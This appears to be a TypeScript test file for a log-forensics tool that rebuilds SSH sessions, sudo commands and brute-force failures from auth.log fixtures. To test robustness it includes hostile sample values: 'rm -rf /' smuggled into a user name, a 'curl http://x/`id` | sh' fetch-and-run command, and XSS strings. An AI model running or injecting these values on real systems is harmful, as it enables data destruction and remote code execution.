import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createSshdCorrelator } from '../parsers/syslog/sshd-correlator';
import { parseSyslogLine } from '../parsers/syslog/syslog-line';
import { rebuildAuthSessions, type AuthEventInput } from './auth-sessions';

const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];

/** auth.log lines → the events the ingest would store (UTC = the wall clock, year 2024). */
function events(text: string): AuthEventInput[] {
  const correlator = createSshdCorrelator();
  return text
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((line, i) => {
      const r = parseSyslogLine(line.trimStart());
      if (!r.ok) {
        throw new Error(`fixture line does not parse: ${line}`);
      }
      const e = correlator.apply(r.event);
      const t = e.time;
      const ts = t !== null && t.kind === 'local' ? Date.UTC(t.year ?? 2024, t.month - 1, t.day, t.hour, t.minute, t.second) : null;
      return { id: i + 1, ts, kind: e.kind, host: e.host, program: e.program, pid: e.pid, user: e.user, srcIp: e.srcIp, srcPort: e.srcPort, extra: e.extra };
    });
}

const ts = (s: string): number => {
  const [mon, day, time] = s.split(/\s+/u);
  const [h, m, sec] = (time ?? '').split(':').map(Number);
  return Date.UTC(2024, MONTHS.indexOf(mon ?? ''), Number(day), h ?? 0, m ?? 0, sec ?? 0);
};

const BRUTE_THEN_LOGIN = `
Mar 16 02:10:01 shop sshd[7001]: Failed password for root from 203.0.113.45 port 40001 ssh2
Mar 16 02:10:03 shop sshd[7001]: Failed password for root from 203.0.113.45 port 40001 ssh2
Mar 16 02:11:00 shop sshd[7002]: Invalid user oracle from 203.0.113.45 port 40002
Mar 16 02:11:01 shop sshd[7002]: Failed password for invalid user oracle from 203.0.113.45 port 40002 ssh2
Mar 16 02:12:00 shop sshd[7003]: Failed password for admin from 203.0.113.45 port 40003 ssh2
Mar 16 02:12:30 shop sshd[7100]: Failed password for admin from 198.51.100.7 port 50000 ssh2
Mar 16 02:16:34 shop sshd[7311]: Accepted password for admin from 203.0.113.45 port 51234 ssh2
Mar 16 02:16:34 shop sshd[7311]: pam_unix(sshd:session): session opened for user admin by (uid=0)
Mar 16 02:16:35 shop systemd-logind[600]: New session 42 of user admin.
Mar 16 02:17:34 shop sudo:    admin : TTY=pts/1 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash backup2
Mar 16 02:18:04 shop sudo:    admin : TTY=pts/1 ; PWD=/var/www/shop ; USER=root ; COMMAND=/bin/cp /tmp/index.php /var/www/shop/index.php
Mar 16 02:19:00 shop su[7420]: Successful su for root by admin
Mar 16 02:25:00 shop sshd[7311]: Received disconnect from 203.0.113.45 port 51234:11: disconnected by user
Mar 16 02:25:00 shop sshd[7311]: Disconnected from user admin 203.0.113.45 port 51234
Mar 16 02:25:00 shop sshd[7311]: pam_unix(sshd:session): session closed for user admin
Mar 16 02:25:01 shop systemd-logind[600]: Removed session 42.
Mar 16 02:30:00 shop sudo:    admin : TTY=pts/1 ; PWD=/home/admin ; USER=root ; COMMAND=/bin/true
`;

describe('auth.log session reconstruction', () => {
  it('rebuilds a login with its method, address, pid, commands, end and the failures before it', () => {
    const { sessions, unattributed } = rebuildAuthSessions(events(BRUTE_THEN_LOGIN));
    expect(sessions).toHaveLength(1);
    const s = sessions[0];
    expect(s).toMatchObject({
      user: 'admin', srcIp: '203.0.113.45', srcPort: 51234, method: 'password', pid: 7311, host: 'shop', logindSession: '42',
      start: ts('Mar 16 02:16:34'), end: ts('Mar 16 02:25:00'), endKind: 'session_closed', tty: 'pts/1',
    });
    expect(s?.failures).toMatchObject({ count: 4, sameUser: 1, first: ts('Mar 16 02:10:01'), last: ts('Mar 16 02:12:00') });
    expect(s?.failures.users).toEqual([{ value: 'root', count: 2 }, { value: 'admin', count: 1 }, { value: 'oracle', count: 1 }]);
    expect(s?.commands.map((c) => [c.kind, c.command, c.runAs, c.linkage])).toEqual([
      ['sudo', '/usr/sbin/useradd -m -s /bin/bash backup2', 'root', 'user_time'],
      ['sudo', '/bin/cp /tmp/index.php /var/www/shop/index.php', 'root', 'user_time'],
      ['su', null, 'root', 'user_time'],
    ]);
    // the login, PAM open, logind, disconnects, PAM close and logind removal
    expect(s?.eventIds).toEqual([7, 8, 9, 13, 14, 15, 16]);
    // a sudo after the session ended belongs to no session
    expect(unattributed.map((c) => c.command)).toEqual(['/bin/true']);
  });

  it('resets the failure count of an address at each successful login', () => {
    const text = `
Mar 16 01:00:00 shop sshd[1]: Failed password for admin from 192.0.2.9 port 1 ssh2
Mar 16 01:00:05 shop sshd[2]: Accepted password for admin from 192.0.2.9 port 2 ssh2
Mar 16 01:10:00 shop sshd[3]: Accepted publickey for admin from 192.0.2.9 port 3 ssh2: RSA SHA256:abc
`;
    const { sessions } = rebuildAuthSessions(events(text));
    expect(sessions.map((s) => [s.method, s.failures.count])).toEqual([['password', 1], ['publickey', 0]]);
  });

  it('uses the TTY to keep concurrent sessions of one user apart, and marks a guess as ambiguous', () => {
    const text = `
Mar 16 02:00:00 shop sshd[10]: Accepted publickey for admin from 192.0.2.50 port 1 ssh2: RSA SHA256:abc
Mar 16 02:05:00 shop sshd[20]: Accepted password for admin from 203.0.113.45 port 2 ssh2
Mar 16 02:06:00 shop sudo:    admin : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/id
Mar 16 02:07:00 shop sudo:    admin : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls
Mar 16 02:08:00 shop sudo:    admin : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/ps
`;
    const [a, b] = rebuildAuthSessions(events(text)).sessions;
    // the first pts/1 command: two open sessions fit, the latest login is chosen and the link flagged
    expect(b?.commands.map((c) => [c.command, c.linkage])).toEqual([['/bin/id', 'ambiguous'], ['/bin/ps', 'user_time']]);
    // pts/0 cannot be the session that already ran on pts/1
    expect(a?.commands.map((c) => [c.command, c.linkage])).toEqual([['/bin/ls', 'user_time']]);
  });

  it('keeps sessions of different hosts and reused pids apart', () => {
    const text = `
Mar 16 02:00:00 web1 sshd[10]: Accepted password for admin from 192.0.2.1 port 1 ssh2
Mar 16 02:00:01 web2 sshd[10]: Accepted password for admin from 192.0.2.2 port 1 ssh2
Mar 16 02:01:00 web2 sshd[10]: pam_unix(sshd:session): session closed for user admin
Mar 16 02:02:00 web1 sudo:    admin : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id
Mar 16 03:00:00 web2 sshd[10]: Accepted password for bob from 192.0.2.3 port 1 ssh2
Mar 16 03:05:00 web2 sshd[10]: pam_unix(sshd:session): session closed for user bob
`;
    const s = rebuildAuthSessions(events(text)).sessions;
    expect(s.map((x) => [x.host, x.user, x.end === null ? null : x.end - x.start, x.commands.length])).toEqual([
      ['web1', 'admin', null, 1],
      ['web2', 'admin', 59_000, 0],
      ['web2', 'bob', 300_000, 0],
    ]);
  });

  it('keeps hostile user names and commands as logged, and never ties them to another user', () => {
    const text = `
Mar 16 02:00:00 shop sshd[30]: Failed password for invalid user <script>alert(1)</script> from 192.0.2.66 port 1 ssh2
Mar 16 02:00:01 shop sshd[30]: Failed password for invalid user admin from 10.0.0.1 from 192.0.2.66 port 1 ssh2
Mar 16 02:00:05 shop sshd[31]: Accepted password for r00t;rm -rf / from 192.0.2.66 port 2 ssh2
Mar 16 02:00:06 shop sudo: r00t;rm -rf / : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c "curl http://x/\`id\` | sh" ; echo </td><img src=x>
Mar 16 02:00:07 shop sudo:    admin : TTY=pts/3 ; PWD=/ ; USER=root ; COMMAND=/bin/id
`;
    const { sessions, unattributed } = rebuildAuthSessions(events(text));
    expect(sessions).toHaveLength(1);
    const s = sessions[0];
    expect(s?.user).toBe('r00t;rm -rf /');
    expect(s?.failures.users.map((u) => u.value).sort()).toEqual(['<script>alert(1)</script>', 'admin from 10.0.0.1'].sort());
    expect(s?.commands[0]?.command).toBe('/bin/sh -c "curl http://x/`id` | sh" ; echo </td><img src=x>');
    // admin has no session: its sudo is not given to the hostile user's one
    expect(unattributed.map((c) => c.user)).toEqual(['admin']);
  });

  it('opens console sessions from login, and ignores cron PAM sessions', () => {
    const text = `
Mar 16 02:00:00 shop CRON[5]: pam_unix(cron:session): session opened for user root by (uid=0)
Mar 16 02:00:01 shop login[900]: pam_unix(login:session): session opened for user root by LOGIN(uid=0)
Mar 16 02:00:01 shop login[900]: ROOT LOGIN ON tty1
Mar 16 02:10:00 shop login[900]: pam_unix(login:session): session closed for user root
`;
    const s = rebuildAuthSessions(events(text)).sessions;
    expect(s.map((x) => [x.user, x.method, x.srcIp, x.endKind, x.eventIds.length])).toEqual([['root', 'console', null, 'session_closed', 3]]);
  });

  it('is total: any events, in any order, give sessions without throwing', () => {
    const kinds = ['ssh_accepted', 'ssh_failed', 'session_opened', 'session_closed', 'ssh_disconnect', 'sudo_command', 'su_success', 'login_session', 'login_session_removed', 'x'];
    const ev = fc.record({
      id: fc.integer({ min: 1, max: 1e6 }),
      ts: fc.option(fc.integer({ min: 0, max: 1e7 })),
      kind: fc.constantFrom(...kinds),
      host: fc.option(fc.constantFrom('a', 'b')),
      program: fc.option(fc.constantFrom('sshd', 'sudo', 'su', 'login', 'systemd-logind', '/usr/sbin/sshd')),
      pid: fc.option(fc.integer({ min: 1, max: 5 })),
      user: fc.option(fc.constantFrom('root', 'admin', '')),
      srcIp: fc.option(fc.constantFrom('192.0.2.1', '::1')),
      srcPort: fc.option(fc.integer({ min: 1, max: 65535 })),
      extra: fc.dictionary(fc.constantFrom('method', 'tty', 'command', 'session_id', 'run_as', 'target_user'), fc.oneof(fc.string(), fc.integer(), fc.boolean(), fc.constant(null))),
    });
    fc.assert(
      fc.property(fc.array(ev, { maxLength: 60 }), (list) => {
        const r = rebuildAuthSessions(list);
        const ids = new Set(list.map((e) => e.id));
        for (const s of r.sessions) {
          expect(ids.has(s.id)).toBe(true);
          expect(s.end === null || s.end >= s.start).toBe(true);
        }
        const attributed = r.sessions.reduce((n, s) => n + s.commands.length, 0) + r.unattributed.length;
        const commands = list.filter((e) => e.ts !== null && ['sudo_command', 'su_success'].includes(e.kind)).length;
        expect(attributed).toBe(commands);
      }),
    );
  });
});
